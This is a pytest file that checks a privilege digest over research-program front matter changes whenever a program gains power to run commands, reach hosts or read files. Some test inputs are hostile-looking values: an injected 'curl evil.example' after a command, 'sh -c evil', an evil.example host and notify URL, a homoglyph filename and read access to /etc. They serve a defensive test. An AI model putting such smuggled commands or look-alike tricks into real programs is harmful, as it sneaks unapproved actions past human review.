"""What of a program a person allows: each key is decided, and the digest is of what runs, not of how it is written."""

from dataclasses import fields
from typing import Any

import pytest

from overnight.program.parser import parse_program
from overnight.program.privileges import HARMLESS, PRIVILEGES, digest_of, privilege_lines
from overnight.program.schema import KEYS

PROGRAM = """---
metric: loss
measure: python train.py
checks: [pytest -q, ruff check]
env: {B: '2', A: '1'}
limits: {network: [pypi.org], wall: 60s}
researchers:
  - {role: explorer, use: command, template: claude}
  - {role: tuner, use: tuner}
---
Make it small.
"""


def lines(text: str) -> tuple[str, ...]:
    return privilege_lines(parse_program(text, "program.md"))


def changed(old: str, new: str) -> bool:
    """Whether another digest is to be allowed once this text is another."""
    assert old in PROGRAM
    return digest_of(lines(PROGRAM)) != digest_of(lines(PROGRAM.replace(old, new, 1)))


@pytest.mark.parametrize("record", [*PRIVILEGES])
def test_every_key_is_decided(record: Any) -> None:
    """A new field is a privilege or harmless, and never both: whoever adds one decides."""
    privileges, harmless = PRIVILEGES[record], HARMLESS[record]
    assert not privileges & harmless
    assert privileges | harmless == {field.name for field in fields(record)}


def test_every_key_of_the_front_matter_is_a_field() -> None:
    """So what is decided of the fields is decided of the keys."""
    decided = set().union(*PRIVILEGES.values(), *HARMLESS.values())
    other_names = {"patience": "patience_s", "wall": "wall_s", "memory": "memory_bytes", "disk": "disk_bytes"}
    other_names |= {"output": "output_bytes", "channel": "name"}
    for name in ("", "limits", "researchers", "notify"):
        assert {other_names.get(key, key) for key in KEYS[name]} <= decided, name


def test_the_lines_are_what_runs_and_opens() -> None:
    """In full, each with its key."""
    assert lines(PROGRAM) == (
        'measure: "python train.py"',
        'checks: "pytest -q"',
        'checks: "ruff check"',
        'env.A: "1"',
        'env.B: "2"',
        'limits.hosts: "pypi.org"',
        'researchers.explorer.use: "command"',
        'researchers.explorer.template: "claude"',
        'researchers.tuner.use: "tuner"',
    )


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("python train.py", "python  train.py"),
        ("python train.py", "python tr\u0430in.py"),
        ("python train.py", "'python train.py; curl evil.example'"),
        ("checks: [pytest -q, ruff check]", "checks: [pytest -q]"),
        ("B: '2'", "B: '3'"),
        ("pypi.org", "pypi.org, evil.example"),
        ("network: [pypi.org]", "network: host"),
        ("wall: 60s", "gpus: 1"),
        ("network: [pypi.org]", "network: {hosts: [pypi.org], sent: 1GB}"),
        ("template: claude", "command: sh -c evil"),
        ("template: claude", "template: claude, model: dear"),
        ("template: claude", "template: claude, limits: {network: host}"),
        ("use: tuner", "use: agent"),
        ("---\nMake", "notify: [{use: ntfy, url: 'https://evil.example/topic'}]\n---\nMake"),
        ("---\nMake", "readable: [/etc]\n---\nMake"),
        ("---\nMake", "hidden: [answers.csv]\n---\nMake"),
        ("---\nMake", "holdout: python seal.py\n---\nMake"),
        ("---\nMake", "audit: python seal.py\n---\nMake"),
    ],
)
def test_what_runs_or_opens_more_is_allowed_anew(old: str, new: str) -> None:
    """Every kind of it; a look-alike of a letter, too, and in the lines it is seen."""
    assert changed(old, new)
    assert all(line.isascii() for line in lines(PROGRAM.replace(old, new, 1)))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("wall: 60s", "wall: 9s"),
        ("B: '2', A: '1'", "A: '1', B: '2'"),
        ("Make it small.", "Make it large."),
        ("metric: loss\nmeasure: python train.py", "measure: 'python train.py' # why\nmetric: {name: loss}"),
        ("checks: [pytest -q, ruff check]", 'checks:\n  - "pytest -q"\n  - ruff check'),
        ("---\nMake", "budget: {hours: 9}\ntarget: 1\neditable: [a.py]\n---\nMake"),
        ("role: tuner", "role: tuner, count: 2"),
    ],
)
def test_how_it_is_written_does_not_matter(old: str, new: str) -> None:
    """Nor do the words for researchers, budgets, and what the jail bounds."""
    assert old in PROGRAM and lines(PROGRAM.replace(old, new, 1)) == lines(PROGRAM)


def test_no_text_can_stand_for_several_lines() -> None:
    """A line break or a quote within a value is escaped, so that other privileges never have the same lines."""
    tricky = PROGRAM.replace("'1'", "'1\" \\ x'")
    [line] = [line for line in lines(tricky) if line.startswith("env.A")]
    assert line == 'env.A: "1\\" \\\\ x"'
    two = PROGRAM.replace("python train.py", '|\n  a\n  checks: "x"')
    assert lines(two)[0].startswith('measure: "a\\nchecks: \\"x\\"')
